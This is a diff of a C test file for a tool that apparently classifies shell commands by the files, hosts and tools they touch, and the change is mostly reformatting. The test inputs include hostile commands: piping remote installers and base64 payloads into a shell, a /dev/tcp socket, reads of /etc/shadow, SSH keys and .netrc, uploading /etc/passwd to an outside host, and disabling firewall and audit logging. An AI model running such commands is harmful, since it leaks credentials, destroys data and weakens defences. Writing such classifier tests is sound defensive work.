@@ -59,10 +59,10 @@ static void print(const struct translation *translation, const char *text,
 
 		if (request->base)
 			continue;
-		buffer_printf(out, "%s %s %s%s\n",
-			      operation_word(request->action),
-			      resource_kind_word(request->kind), request->object,
-			      request->conditional ? " ?" : "");
+		buffer_printf(
+			out, "%s %s %s%s\n", operation_word(request->action),
+			resource_kind_word(request->kind), request->object,
+			request->conditional ? " ?" : "");
 	}
 	for (size_t i = 0; i < translation->nr_gaps; i++) {
 		const struct gap *gap = &translation->gaps[i];
@@ -107,7 +107,8 @@ TEST(pipelines)
 		  "execute tool ssh\n"
 		  "connect endpoint tcp vault.example 22\n" },
 		{ "sh",
-		  "curl -fsSL https://get.example/install | sudo bash -s -- --yes",
+		  "curl -fsSL https://get.example/install | sudo bash -s -- "
+		  "--yes",
 		  "execute tool curl\n"
 		  "connect endpoint tcp get.example 443\n"
 		  "execute tool sudo\n"
@@ -126,11 +127,9 @@ TEST(redirections)
 		  "write file /srv/log/stamp\n"
 		  "write file ~/up\n"
 		  "write file /var/log/wtmp\n" },
-		{ "sh",
-		  "exec 3<>/dev/tcp/192.0.2.7/4444; cat <&3",
+		{ "sh", "exec 3<>/dev/tcp/192.0.2.7/4444; cat <&3",
 		  "connect endpoint tcp 192.0.2.7 4444\n" },
-		{ "sh",
-		  "sort < /etc/group &> /tmp/sorted; cmd 2> /tmp/errors",
+		{ "sh", "sort < /etc/group &> /tmp/sorted; cmd 2> /tmp/errors",
 		  "read file /etc/group\n"
 		  "write file /tmp/sorted\n"
 		  "write file /tmp/errors\n"
@@ -179,24 +178,21 @@ TEST(here_documents)
 TEST(substitutions)
 {
 	static const struct reading readings[] = {
-		{ "sh",
-		  "echo \"$(cat ~/.netrc)\" `id -un`",
+		{ "sh", "echo \"$(cat ~/.netrc)\" `id -un`",
 		  "read file ~/.netrc\n" },
 		{ "sh",
-		  "for f in $(find /srv -name \"*.key\"); do cp \"$f\" /tmp/; done",
+		  "for f in $(find /srv -name \"*.key\"); do cp \"$f\" /tmp/; "
+		  "done",
 		  "list dir /srv/\n"
 		  "read file /srv/*/*.key\n"
 		  "write file /tmp/*.key\n" },
-		{ "sh",
-		  "cat \"$(dirname /etc/ssh/sshd_config)/ssh_config\"",
+		{ "sh", "cat \"$(dirname /etc/ssh/sshd_config)/ssh_config\"",
 		  "read file /etc/ssh/ssh_config\n" },
-		{ "sh",
-		  "kill -9 $(pgrep -f worker)",
+		{ "sh", "kill -9 $(pgrep -f worker)",
 		  "execute tool pgrep\n"
 		  "list process *\n"
 		  "signal process worker\n" },
-		{ "sh",
-		  "diff <(curl -s http://a.example/x) <(cat /etc/issue)",
+		{ "sh", "diff <(curl -s http://a.example/x) <(cat /etc/issue)",
 		  "execute tool curl\n"
 		  "connect endpoint tcp a.example 80\n"
 		  "read file /etc/issue\n" },
@@ -209,12 +205,12 @@ TEST(variables)
 {
 	static const struct reading readings[] = {
 		{ "sh",
-		  "D=/var/lib/app; cat $D/state \"${D}/log\" ${E:-/etc/fallback}",
+		  "D=/var/lib/app; cat $D/state \"${D}/log\" "
+		  "${E:-/etc/fallback}",
 		  "read file /var/lib/app/state\n"
 		  "read file /var/lib/app/log\n"
 		  "read file /etc/fallback\n" },
-		{ "sh",
-		  "tool=\"ncat -v\"; $tool host.example 99",
+		{ "sh", "tool=\"ncat -v\"; $tool host.example 99",
 		  "execute tool ncat\n"
 		  "connect endpoint tcp host.example 99\n" },
 		{ "sh",
@@ -223,18 +219,19 @@ TEST(variables)
 		  "read file ~/.netrc\n"
 		  "read file /root/.profile\n" },
 		{ "sh",
-		  "PY=$(command -v python3 || which python); $PY -c \"import os; "
+		  "PY=$(command -v python3 || which python); $PY -c \"import "
+		  "os; "
 		  "os.remove('/tmp/gone')\"",
 		  "execute tool python3\n"
 		  "delete file /tmp/gone\n"
 		  "execute tool python\n" },
-		{ "sh",
-		  "if a; then F=/etc/one; else F=/etc/two; fi; cat $F",
+		{ "sh", "if a; then F=/etc/one; else F=/etc/two; fi; cat $F",
 		  "read file /etc/one\n"
 		  "read file /etc/two\n"
 		  "gap not-a-command: a\n" },
 		{ "sh",
-		  "echo $SECRET_TOKEN \"$HOME\"; [ -n \"$CI_TOKEN\" ] && printenv "
+		  "echo $SECRET_TOKEN \"$HOME\"; [ -n \"$CI_TOKEN\" ] && "
+		  "printenv "
 		  "PATH",
 		  "getenv env SECRET_TOKEN\n"
 		  "getenv env CI_TOKEN\n"
@@ -252,8 +249,7 @@ TEST(variables)
 TEST(loops)
 {
 	static const struct reading readings[] = {
-		{ "sh",
-		  "for h in a.example b.example; do ping -c1 $h; done",
+		{ "sh", "for h in a.example b.example; do ping -c1 $h; done",
 		  "execute tool ping\n"
 		  "connect endpoint icmp a.example *\n"
 		  "connect endpoint icmp b.example *\n" },
@@ -262,8 +258,7 @@ TEST(loops)
 		  "/etc/passwd",
 		  "read file /etc/passwd\n"
 		  "write file /tmp/out\n" },
-		{ "sh",
-		  "for i in {1..3}; do touch /tmp/n$i; done",
+		{ "sh", "for i in {1..3}; do touch /tmp/n$i; done",
 		  "write file /tmp/n*\n" },
 		{ "sh",
 		  "case \"$1\" in start) systemctl start app;; stop) systemctl "
@@ -287,15 +282,10 @@ TEST(functions)
 		  "save ~/.ssh/id_rsa",
 		  "read file ~/.ssh/id_rsa\n"
 		  "write file /media/usb/id_rsa\n" },
-		{ "sh",
-		  "never() { rm -rf /srv/data; }",
+		{ "sh", "never() { rm -rf /srv/data; }",
 		  "delete file /srv/data\n" },
-		{ "sh",
-		  "f() { f; }; f",
-		  "" },
-		{ "sh",
-		  "alias ll='ls -la /root'; ll",
-		  "list file /root\n" },
+		{ "sh", "f() { f; }; f", "" },
+		{ "sh", "alias ll='ls -la /root'; ll", "list file /root\n" },
 	};
 
 	CHECK(readings);
@@ -305,7 +295,8 @@ TEST(folders)
 {
 	static const struct reading readings[] = {
 		{ "sh",
-		  "cd /opt/app && cat conf/secret.yml && (cd /etc && cat hosts) "
+		  "cd /opt/app && cat conf/secret.yml && (cd /etc && cat "
+		  "hosts) "
 		  "&& rm -f run.pid",
 		  "read file /opt/app/conf/secret.yml\n"
 		  "read file /etc/hosts\n"
@@ -334,8 +325,7 @@ TEST(folders)
 TEST(nesting)
 {
 	static const struct reading readings[] = {
-		{ "sh",
-		  "sudo -u www sh -c 'cat /var/www/.htpasswd > /tmp/h'",
+		{ "sh", "sudo -u www sh -c 'cat /var/www/.htpasswd > /tmp/h'",
 		  "execute tool sudo\n"
 		  "write file /tmp/h\n"
 		  "read file /var/www/.htpasswd\n" },
@@ -353,8 +343,7 @@ TEST(nesting)
 		  "find /var/log -name \"*.log\" -print0 | xargs -0 rm -f",
 		  "list dir /var/log/\n"
 		  "delete file /var/log/*/*.log\n" },
-		{ "sh",
-		  "eval \"cat /etc/shadow\"; trap \"rm /tmp/lock\" EXIT",
+		{ "sh", "eval \"cat /etc/shadow\"; trap \"rm /tmp/lock\" EXIT",
 		  "read file /etc/shadow\n"
 		  "delete file /tmp/lock\n" },
 		{ "sh",
@@ -365,8 +354,7 @@ TEST(nesting)
 		  "execute tool uv\n"
 		  "connect endpoint tcp registry:pypi 443\n"
 		  "execute tool pytest\n" },
-		{ "sh",
-		  "sh -c 'sh -c \"sh -c \\\"cat /etc/deep\\\"\"'",
+		{ "sh", "sh -c 'sh -c \"sh -c \\\"cat /etc/deep\\\"\"'",
 		  "read file /etc/deep\n" },
 	};
 
@@ -376,16 +364,13 @@ TEST(nesting)
 TEST(decoding)
 {
 	static const struct reading readings[] = {
-		{ "sh",
-		  "echo Y2F0IC9ldGMvc2hhZG93Cg== | base64 -d | sh",
+		{ "sh", "echo Y2F0IC9ldGMvc2hhZG93Cg== | base64 -d | sh",
 		  "execute tool *\n"
 		  "read file /etc/shadow\n" },
-		{ "sh",
-		  "base64 --decode <<< cm0gLXJmIC9zcnYvZGF0YQo= | bash",
+		{ "sh", "base64 --decode <<< cm0gLXJmIC9zcnYvZGF0YQo= | bash",
 		  "execute tool *\n"
 		  "delete file /srv/data\n" },
-		{ "sh",
-		  "echo 636174202f6574632f676f616c73 | xxd -r -p | sh",
+		{ "sh", "echo 636174202f6574632f676f616c73 | xxd -r -p | sh",
 		  "execute tool xxd\n"
 		  "execute tool *\n"
 		  "read file /etc/goals\n" },
@@ -395,8 +380,7 @@ TEST(decoding)
 		  "execute tool gunzip\n"
 		  "execute tool *\n"
 		  "read file /etc/gshadow\n" },
-		{ "sh",
-		  "cat payload.b64 | base64 -d | bash",
+		{ "sh", "cat payload.b64 | base64 -d | bash",
 		  "execute tool *\n" },
 	};
 
@@ -425,7 +409,8 @@ TEST(inline_code)
 		  "write file /etc/cron.d/x\n"
 		  "read file /etc/shadow\n" },
 		{ "sh",
-		  "perl -e 'open(F, \">>/var/log/x\"); system(\"rm /tmp/y\"); unlink "
+		  "perl -e 'open(F, \">>/var/log/x\"); system(\"rm /tmp/y\"); "
+		  "unlink "
 		  "\"/tmp/z\"'",
 		  "execute tool perl\n"
 		  "write file /var/log/x\n"
@@ -447,7 +432,8 @@ TEST(inline_code)
 		  "read file /var/db/a.sqlite\n" },
 		{ "sh",
 		  "python3 -c \"import base64; "
-		  "exec(base64.b64decode('b3BlbignL2V0Yy9nc2hhZG93JykucmVhZCgp'))"
+		  "exec(base64.b64decode('b3BlbignL2V0Yy9nc2hhZG93JykucmVhZCgp'"
+		  "))"
 		  "\"",
 		  "execute tool python3\n"
 		  "read file /etc/gshadow\n" },
@@ -495,7 +481,8 @@ TEST(prompts)
 		  "# cat /etc/b",
 		  "write file /etc/a\n" },
 		{ "powershell",
-		  "PS C:\\> Invoke-WebRequest -Uri https://w.example/a -OutFile "
+		  "PS C:\\> Invoke-WebRequest -Uri https://w.example/a "
+		  "-OutFile "
 		  "C:\\a.exe",
 		  "connect endpoint tcp w.example 443\n"
 		  "execute tool powershell\n" },
@@ -550,11 +537,8 @@ TEST(no_language)
 TEST(other_languages)
 {
 	static const struct reading readings[] = {
-		{ "json",
-		  "{\"a\": \"cat /etc/passwd\"}",
-		  "" },
-		{ "python",
-		  "open(\"/etc/passwd\")",
+		{ "json", "{\"a\": \"cat /etc/passwd\"}", "" },
+		{ "python", "open(\"/etc/passwd\")",
 		  "read file /etc/passwd\n" },
 	};
 
@@ -595,7 +579,8 @@ TEST(prose)
 		  "Make sure that the server is running first\n"
 		  "cat /etc/x",
 		  "read file /etc/x\n"
-		  "gap not-a-command: Make sure that the server is running first\n" },
+		  "gap not-a-command: Make sure that the server is running "
+		  "first\n" },
 	};
 
 	CHECK(readings);
@@ -631,13 +616,15 @@ TEST(hosts)
 		  "connect endpoint tcp jump.example 22\n" },
 		{ "sh",
 		  "git clone git@code.example:team/x.git; git clone "
-		  "https://u:p@g.example:8443/y; git push origin main; git fetch",
+		  "https://u:p@g.example:8443/y; git push origin main; git "
+		  "fetch",
 		  "execute tool git\n"
 		  "connect endpoint tcp code.example 22\n"
 		  "connect endpoint tcp g.example 8443\n"
 		  "connect endpoint tcp remote:origin *\n" },
 		{ "sh",
-		  "curl -F f=@/etc/passwd -H \"Authorization: Bearer $TOKEN\" -d "
+		  "curl -F f=@/etc/passwd -H \"Authorization: Bearer $TOKEN\" "
+		  "-d "
 		  "@body.json http://up.example:8000/ --unix-socket "
 		  "/var/run/docker.sock",
 		  "execute tool curl\n"
@@ -647,7 +634,8 @@ TEST(hosts)
 		  "connect socket /var/run/docker.sock\n"
 		  "connect endpoint tcp up.example 8000\n" },
 		{ "sh",
-		  "psql -h db.example -U app; redis-cli -h cache.example -p 6380 "
+		  "psql -h db.example -U app; redis-cli -h cache.example -p "
+		  "6380 "
 		  "get k; mysql",
 		  "execute tool psql\n"
 		  "connect endpoint tcp db.example 5432\n"
@@ -739,7 +727,8 @@ TEST(implied)
 		  "kernel kernel reboot\n" },
 		{ "sh",
 		  "iptables -F; auditctl -D; setenforce 0; swapoff -a; tcpdump "
-		  "-i eth0 -w /tmp/cap.pcap; strace -p 12; gdb -p $(pidof sshd)",
+		  "-i eth0 -w /tmp/cap.pcap; strace -p 12; gdb -p $(pidof "
+		  "sshd)",
 		  "execute tool iptables\n"
 		  "kernel kernel firewall\n"
 		  "execute tool auditctl\n"
@@ -790,7 +779,8 @@ TEST(files)
 		  "setattr file /srv/f\n"
 		  "setattr file /var/log/auth.log\n" },
 		{ "sh",
-		  "zip -r ~/out.zip /var/www; tar -xzf /tmp/a.tgz -C /opt; gzip "
+		  "zip -r ~/out.zip /var/www; tar -xzf /tmp/a.tgz -C /opt; "
+		  "gzip "
 		  "-k /var/log/syslog; unzip x.zip -d /srv",
 		  "execute tool zip\n"
 		  "write file ~/out.zip\n"
@@ -805,7 +795,8 @@ TEST(files)
 		  "write dir /srv/\n"
 		  "read file x.zip\n" },
 		{ "sh",
-		  "cp src/a.c src/b.c; mkdir build; rm -rf dist; cat README.md; "
+		  "cp src/a.c src/b.c; mkdir build; rm -rf dist; cat "
+		  "README.md; "
 		  "echo 1 > out.txt; cat .env config/server.key",
 		  "write file out.txt\n"
 		  "read file .env\n"
@@ -831,7 +822,8 @@ TEST(tools)
 {
 	static const struct reading readings[] = {
 		{ "sh",
-		  "/usr/bin/curl --version; ./scripts/run.sh; bash tools/go.sh; "
+		  "/usr/bin/curl --version; ./scripts/run.sh; bash "
+		  "tools/go.sh; "
 		  "python3 tools/x.py; . ./env.sh; .venv/bin/pytest",
 		  "execute tool curl\n"
 		  "execute tool scripts/run.sh\n"
@@ -850,7 +842,8 @@ TEST(tools)
 		  "gap unknown-command: /etc/secret\n"
 		  "gap unknown-command: https://odd.example/\n" },
 		{ "sh",
-		  "npx prettier@3 --check .; poetry run mypy src; npm run build; "
+		  "npx prettier@3 --check .; poetry run mypy src; npm run "
+		  "build; "
 		  "sudo -E ./x",
 		  "execute tool npx\n"
 		  "connect endpoint tcp registry:npm 443\n"
@@ -939,7 +932,8 @@ TEST(spans)
 		  "9ldGMvYQ" },
 		{ "npm ci", "tcp registry:npm 443", "npm ci" },
 		{ "python3 -c \"open('/etc/a')\"", "/etc/a", "/etc/a" },
-		{ "scp a.zip x@h.example:", "tcp h.example 22", "x@h.example:" },
+		{ "scp a.zip x@h.example:", "tcp h.example 22",
+		  "x@h.example:" },
 	};
 
 	for (size_t i = 0; i < sizeof(cases) / sizeof(*cases); i++) {
@@ -991,14 +985,25 @@ TEST(decoded_blob)
 TEST(looks_like_command)
 {
 	static const char *const yes[] = {
-		"npm test", "git push", "./run.sh", "make", "make all",
-		"A=1 B=2 cargo test", "/usr/bin/find", "$ anything",
+		"npm test",	   "git push",
+		"./run.sh",	   "make",
+		"make all",	   "A=1 B=2 cargo test",
+		"/usr/bin/find",   "$ anything",
 		"python3.11 x.py", "node_modules/.bin/eslint",
 	};
 	static const char *const no[] = {
-		"src/find", "lib/",    "find the bug", "make sure that",
-		"main.c",   "TODO",    "",	       "install the tool",
-		"A=1",	    "-x flag", "foo bar",      "cut on dashes",
+		"src/find",
+		"lib/",
+		"find the bug",
+		"make sure that",
+		"main.c",
+		"NOTE",
+		"",
+		"install the tool",
+		"A=1",
+		"-x flag",
+		"foo bar",
+		"cut on dashes",
 	};
 
 	for (size_t i = 0; i < sizeof(yes) / sizeof(*yes); i++)
@@ -1020,10 +1025,10 @@ TEST(looks_like_command)
 TEST_TIMEOUT(pathological, 60)
 {
 	static const char *const units[] = {
-		"\n", "(",    "{",	"$(",	  "`",	   "${",      "\"",
-		"'",  "<",    "<<A\n",	"a=(",	  "if ",   "[[ ",     "{a,b}",
-		"| ", "a b ", "((",	"f(){ ",  "a<b\n", "case x in ",
-		"\\", "a",    "don't (", "A=$A$A\n",
+		"\n",	 "(",	       "{",  "$(",    "`",	 "${",
+		"\"",	 "'",	       "<",  "<<A\n", "a=(",	 "if ",
+		"[[ ",	 "{a,b}",      "| ", "a b ",  "((",	 "f(){ ",
+		"a<b\n", "case x in ", "\\", "a",     "don't (", "A=$A$A\n",
 	};
 	static const char end[] = "\n\ncat /etc/last\n";
 
